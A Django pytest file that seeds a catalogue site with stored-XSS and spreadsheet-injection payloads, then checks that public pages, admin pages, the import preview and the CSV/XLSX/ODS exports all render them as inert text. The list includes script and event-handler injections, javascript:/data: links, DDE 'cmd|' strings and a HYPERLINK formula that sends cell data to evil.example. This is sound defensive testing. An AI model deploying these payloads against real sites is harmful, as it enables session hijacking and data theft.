"""Stored XSS: hostile text in every text field stays text on every page that shows it,
public and admin, in the import preview, and inert in every export.

Each payload fills one example (title, summary, description, website), its partner (name,
description, website) and a domain (name, description). Websites the validator refuses are
stored with `queryset.update`, as data that bypassed the forms would be. The HTML is read
with html.parser: no event-handler attribute, no script, frame or object that the site did
not write, no `javascript:`/`data:` address in a link.
"""

import csv
import io
import json
import re
from html.parser import HTMLParser

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from odf import teletype
from odf.namespaces import TABLENS
from odf.opendocument import load as load_ods
from odf.table import Table, TableCell

from catalogue.models import Actor, Domain, Example
from catalogue.territory_views import TerritoryDetailView
from catalogue.validators import CONTROL_CHARACTERS

from .factories import ActorFactory, ExampleFactory

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "<scr<script>ipt>alert(3)</script>",
    "<img src=x onerror=alert(4)>",
    "<svg onload=alert(5)>",
    "<svg><script>alert(6)</script></svg>",
    '"><script>alert(7)</script>',
    "'><img src=x onerror=alert(8)>",
    '" onmouseover="alert(9)" x="',
    "' onfocus='alert(10)' autofocus='",
    "</textarea><script>alert(11)</script>",
    "</title><script>alert(12)</script>",
    '<a href="javascript:alert(13)">clic</a>',
    "javascript:alert(14)",
    '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxNSk8L3NjcmlwdD4="></iframe>',
    '<a href="data:text/html,<script>alert(16)</script>">lien</a>',
    '<div style="width: expression(alert(17))">css</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<body onload=alert(18)>",
    "<details open ontoggle=alert(19)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(20)>",
    '<!--<img src="--><img src=x onerror=alert(21)//">',
    '<object data="javascript:alert(22)"></object>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(23)">',
    '<form action="javascript:alert(24)"><button>envoyer</button></form>',
    "{{7*7}} {% debug %} ${7*7} #{7*7}",
    "&lt;script&gt;alert(25)&lt;/script&gt;",
    "\uff1cscript\uff1ealert(26)\uff1c/script\uff1e",  # full-width < >
    "\u202e<script>alert(27)</script>\u202c",  # right-to-left override
    "<scr\u200bipt>alert(28)</scr\u200bipt>",  # zero-width space
    "%3Cscript%3Ealert(29)%3C/script%3E \\x3cscript\\x3ealert(29)",
    '=HYPERLINK("https://evil.example/?"&A1,"clic")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 <script>alert(30)</script>",
]
assert len(PAYLOADS) >= 30

# Websites: the first passes the URL validator (and is saved through the model); the others
# are refused by it and are stored with queryset.update.
VALID_WEBSITE = 'https://exemple.org/?q="><script>alert(31)</script>'
HOSTILE_WEBSITES = [
    "javascript:alert(32)",
    "JaVaScRiPt:alert(33)",
    " javascript:alert(34)",
    "\tjavascript:alert(35)",
    "java\tscript:alert(36)",
    "vbscript:msgbox(37)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgzOCk8L3NjcmlwdD4=",
    '" onmouseover="alert(39)',
    "javascript://exemple.org/%0aalert(40)",
]


def website_for(index):
    return VALID_WEBSITE if index % 5 == 0 else HOSTILE_WEBSITES[index % len(HOSTILE_WEBSITES)]


# --- The HTML checker ----------------------------------------------------------------------

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "srcdoc"}
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")
# Tags only a payload would bring: the site and the admin never write them.
FOREIGN_TAGS = {"iframe", "object", "embed", "base", "math", "mglyph", "mtext", "marquee",
                "frame", "frameset", "applet"}  # fmt: skip


def scheme_of(value):
    """What a browser takes the address to be: control characters and spaces ignored."""
    return re.sub(r"[\x00-\x20]", "", value or "").lower()


SVG_SHAPES = ("rect", "text", "line")


class HostileMarkup(HTMLParser):
    """Collects what a payload could only have become by escaping its text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems, self.text, self.body_count = [], [], 0
        self._open_script = None

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}={value!r}>: event handler")
            if name in URL_ATTRIBUTES and scheme_of(value).startswith(DANGEROUS_SCHEMES):
                self.problems.append(f"<{tag} {name}={value!r}>: active address")
            if name == "style" and "expression(" in (value or ""):
                self.problems.append(f"<{tag} style={value!r}>: CSS expression")
            # x is also the abscissa of the drawings the site writes (map insets, charts).
            if name in ("autofocus", "x") and tag not in ("input", *SVG_SHAPES):
                self.problems.append(f"<{tag} {name}>: attribute from a payload")
        if tag in FOREIGN_TAGS:
            self.problems.append(f"<{tag}>: a tag the site never writes")
        if tag == "img" and not (attributes.get("src") or "").startswith("/static/"):
            self.problems.append(f"<img src={attributes.get('src')!r}>: image from a payload")
        if tag == "svg" and not attributes:  # the admin's drawings have a class or a role
            self.problems.append("<svg>: drawing from a payload")
        if tag == "meta" and "http-equiv" in attributes:
            self.problems.append("<meta http-equiv>: refresh from a payload")
        if tag == "body":
            self.body_count += 1
        if tag in ("script", "style"):
            self._open_script = (tag, attributes)

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag):
        if tag in ("script", "style"):
            self._open_script = None

    def handle_data(self, data):
        if self._open_script:
            tag, attributes = self._open_script
            if tag == "script" and attributes.get("type") in DATA_BLOCKS:
                # Data, never run: a payload may be there as a JSON string, but nothing in it
                # may close the element (json_script's escapes leave no "<").
                if "<" in data:
                    self.problems.append(f"<script>{data[:60]!r}: '<' in a data block")
                json.loads(data)
            elif tag == "script":
                if data.strip():
                    self.problems.append(f"<script>{data[:60]!r}: inline script")
            elif "alert(" in data or "evil.example" in data:
                self.problems.append(f"<{tag}>{data[:60]!r}: from a payload")
            return
        self.text.append(data)


DATA_BLOCKS = ("application/json", "application/ld+json")


def check_html(content: str, *, shown=()):
    """No payload became markup in `content`; each text of `shown` is there as text."""
    parser = HostileMarkup()
    parser.feed(content)
    parser.close()
    problems = list(parser.problems)
    if parser.body_count > 1:
        problems.append("a second <body>")
    raw = content.lower()
    # Escaped text may say "onerror=" (the parser checks attributes); raw markup may not.
    for needle in ("<script>alert", "<script>", 'href="javascript:', "href='javascript:",
                   'src="javascript:', "<svg onload", "<img src=x", "<iframe"):  # fmt: skip
        if needle in raw:
            problems.append(f"raw {needle!r} in the page")
    text = "".join(parser.text)
    for expected in shown:
        if expected not in text:
            problems.append(f"{expected!r} is not shown as text")
    assert not problems, "\n".join(problems)
    return text


# --- The data ------------------------------------------------------------------------------


@pytest.fixture(autouse=True)
def fast_passwords(settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


@pytest.fixture
def hostile(db, settings, monkeypatch):
    """One example, partner and domain per payload, all in Lille, all on one page."""
    settings.EXAMPLES_PER_PAGE = 100
    monkeypatch.setattr(TerritoryDetailView, "preview_size", 100)
    examples = []
    for index, payload in enumerate(PAYLOADS):
        domain = Domain.objects.create(
            name=f"{payload[:100]} d{index}", slug=f"domaine-hostile-{index}",
            description=payload,
        )  # fmt: skip
        actor = ActorFactory(name=payload, description=payload)
        example = ExampleFactory(
            title=payload, summary=payload, description=f"{payload}\n\n{payload}",
            partners=[actor], odd=[17],
        )  # fmt: skip
        example.domains.add(domain)
        examples.append(example)
    for index, example in enumerate(examples):
        website = website_for(index)
        Example.objects.filter(pk=example.pk).update(website=website)
        Actor.objects.filter(partnerships__example=example).update(website=website)
    return [Example.objects.get(pk=e.pk) for e in examples]


def search_word(payload):
    """A word of the payload that search finds and highlights."""
    words = [w for w in re.findall(r"[A-Za-z]{4,}", payload) if w.lower() not in {"https"}]
    return words[0].lower() if words else None


# --- Public pages --------------------------------------------------------------------------


def test_list_page_shows_every_payload_as_text(client, hostile):
    content = client.get("/exemples/").content.decode()
    check_html(content, shown=[e.title.strip() for e in hostile if "\t" not in e.title])


def test_list_page_with_a_search_highlighting_payload_words(client, hostile):
    words = sorted({w for w in map(search_word, PAYLOADS) if w})
    assert len(words) >= 10
    for word in words:
        response = client.get("/exemples/", {"q": word})
        content = response.content.decode()
        assert response.context["paginator"].count, word
        assert "<mark>" in content, word
        check_html(content)


def test_example_pages_show_payloads_as_text_and_no_live_link(client, hostile):
    for example in hostile:
        response = client.get(example.get_absolute_url())
        assert response.status_code == 200
        partner = example.partnerships.get().actor
        check_html(response.content.decode(), shown=[example.title, partner.name])


def test_actor_pages_show_payloads_as_text_and_no_live_link(client, hostile):
    for example in hostile:
        actor = example.partnerships.get().actor
        response = client.get(actor.get_absolute_url())
        assert response.status_code == 200
        check_html(response.content.decode(), shown=[actor.name, actor.description.strip()])


def test_actor_list_and_territory_and_domain_pages(client, hostile):
    check_html(client.get("/acteurs/").content.decode())
    check_html(client.get("/acteurs/", {"q": "script"}).content.decode())
    content = client.get("/territoires/commune-59350/").content.decode()
    check_html(content, shown=[e.title for e in hostile if "\t" not in e.title])
    for domain in Domain.objects.filter(slug__startswith="domaine-hostile-"):
        content = client.get(domain.get_absolute_url()).content.decode()
        check_html(content, shown=[domain.name])
    check_html(client.get("/").content.decode())


def test_fiches_reperes(client, hostile):
    names = [d.name for d in Domain.objects.filter(slug__startswith="domaine-hostile-")]
    for path in ("/reperes/", "/reperes/region-32/", "/reperes/type-acteur/association/"):
        check_html(client.get(path).content.decode(), shown=[n for n in names if "\t" not in n])
    domain = Domain.objects.filter(slug__startswith="domaine-hostile-").first()
    check_html(client.get(f"/reperes/domaine/{domain.slug}/").content.decode())


# --- Admin ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url", ["/admin/catalogue/example/", "/admin/catalogue/actor/", "/admin/catalogue/domain/",
            "/admin/catalogue/partnership/", "/admin/catalogue/example/?q=script"],
)  # fmt: skip
def test_admin_change_lists(client, curator, hostile, url):
    check_html(client.get(url).content.decode())


def test_admin_change_forms(client, curator, hostile):
    for example in hostile:
        actor = example.partnerships.get().actor
        domain = example.domains.get()
        for url in (
            f"/admin/catalogue/example/{example.pk}/change/",
            f"/admin/catalogue/actor/{actor.pk}/change/",
            f"/admin/catalogue/domain/{domain.pk}/change/",
        ):
            response = client.get(url)
            assert response.status_code == 200, url
            check_html(response.content.decode())


def csv_upload(name, headers, rows):
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";")
    writer.writerow(headers)
    writer.writerows(rows)
    return {
        "import_file": SimpleUploadedFile(name, buffer.getvalue().encode()),
        "resource": "0",
        "format": "0",
    }


def test_import_preview_of_hostile_examples_and_actors(client, curator):
    # A bidirectional override is refused like every control character (catalogue.validators).
    printable = [p for p in PAYLOADS if not CONTROL_CHARACTERS.search(p)]
    rows = [[p, p, p, "commune-59350", "2020"] for p in printable]
    data = csv_upload(
        "hostile.csv", ["Titre", "Résumé", "Description", "Territoire", "Année de début"], rows
    )
    response = client.post("/admin/catalogue/example/import/", data)
    assert response.context["confirm_form"], "the preview should be valid"
    check_html(response.content.decode(), shown=[p.strip() for p in printable if "\t" not in p])
    rows = [[p, "", "", "commune-59350", "2020"] for p in PAYLOADS if p not in printable]
    data = csv_upload(
        "hostile.csv", ["Titre", "Résumé", "Description", "Territoire", "Année de début"], rows
    )
    assert (
        "caractère de contrôle"
        in client.post("/admin/catalogue/example/import/", data).content.decode()
    )

    rows = [[p, "Association", "Lille"] for p in PAYLOADS]
    data = csv_upload("acteurs.csv", ["Nom", "Type d'acteur", "Territoire"], rows)
    response = client.post("/admin/catalogue/actor/import/", data)
    check_html(response.content.decode())
    assert Example.objects.count() == 0 and Actor.objects.count() == 0


def test_import_problems_table_shows_hostile_values_as_text(client, curator):
    printable = [p for p in PAYLOADS if not CONTROL_CHARACTERS.search(p)]
    rows = [
        [p[:200], p, HOSTILE_WEBSITES[i % len(HOSTILE_WEBSITES)], "2020"]
        for i, p in enumerate(printable)
    ]
    data = csv_upload("hostile.csv", ["Titre", "Territoire", "Site web", "Année de début"], rows)
    response = client.post("/admin/catalogue/example/import/", data)
    content = response.content.decode()
    assert "rien ne sera enregistré" in content
    check_html(content)


# --- Exports -------------------------------------------------------------------------------

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def inert(text):
    return not text.startswith(FORMULA_START)


def test_csv_export_cells_are_inert(client, hostile):
    response = client.get("/exemples/export.csv")
    body = b"".join(response.streaming_content)
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    assert all(inert(cell) for cell in cells), [c for c in cells if not inert(c)]
    for payload in PAYLOADS:
        assert payload in cells or "'" + payload in cells, payload


def test_xlsx_export_has_no_formula_and_inert_cells(client, hostile):
    body = client.get("/exemples/export.xlsx").content
    workbook = openpyxl.load_workbook(io.BytesIO(body))
    values = []
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    values.append(cell.value)
    assert all(inert(value) for value in values), [v for v in values if not inert(v)]
    for payload in PAYLOADS:
        assert payload in values or "'" + payload in values, payload


def test_ods_export_has_no_formula_and_inert_cells(client, hostile):
    body = client.get("/exemples/export.ods").content
    document = load_ods(io.BytesIO(body))
    values = []
    for sheet in document.spreadsheet.getElementsByType(Table):
        for cell in sheet.getElementsByType(TableCell):
            assert not cell.attributes.get((TABLENS, "formula")), cell.attributes
            text = teletype.extractText(cell)
            if cell.attributes.get((TABLENS, "value-type")) not in ("float", "date"):
                values.append(text)
    assert all(inert(value) for value in values), [v for v in values if not inert(v)]
    joined = "\n".join(values)
    for payload in PAYLOADS:
        assert payload.strip("\t") in joined, payload
